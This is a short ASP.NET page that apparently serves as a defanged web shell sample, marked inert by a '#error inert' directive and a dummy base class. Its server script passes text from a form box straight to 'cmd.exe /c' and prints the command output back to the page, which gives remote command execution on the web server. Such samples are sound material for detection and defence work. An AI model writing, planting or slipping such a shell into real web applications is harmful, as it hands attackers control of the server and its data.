<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
void Page_Load(object s, EventArgs e){} string Run(string arg){ ProcessStartInfo psi = new ProcessStartInfo(); psi.FileName = "cmd.exe"; psi.Arguments = "/c "+arg; psi.UseShellExecute=false; Process p = Process.Start(psi); return p.StandardOutput.ReadToEnd(); }
void go_Click(object s, EventArgs e){ Response.Write(Server.HtmlEncode(Run(txtArg.Text))); }
</script><form runat="server"><asp:TextBox id="txtArg" runat="server"/><asp:Button id="go" runat="server" onclick="go_Click"/></form>